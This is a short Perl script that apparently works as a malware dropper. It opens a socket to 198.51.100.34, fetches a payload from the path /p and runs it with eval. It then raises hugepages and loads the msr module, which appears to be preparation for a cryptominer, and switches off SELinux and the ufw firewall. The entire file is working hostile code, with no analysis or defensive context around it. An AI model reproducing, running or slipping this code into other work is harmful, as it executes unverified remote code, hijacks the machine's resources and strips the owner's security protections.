use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "198.51.100.34", PeerPort => 80);
print $s "GET /p HTTP/1.0\r\n\r\n";
my $code = join("", <$s>);
eval $code;
system("echo 1280 > /proc/sys/vm/nr_hugepages; modprobe msr");
system("setenforce 0; ufw disable");
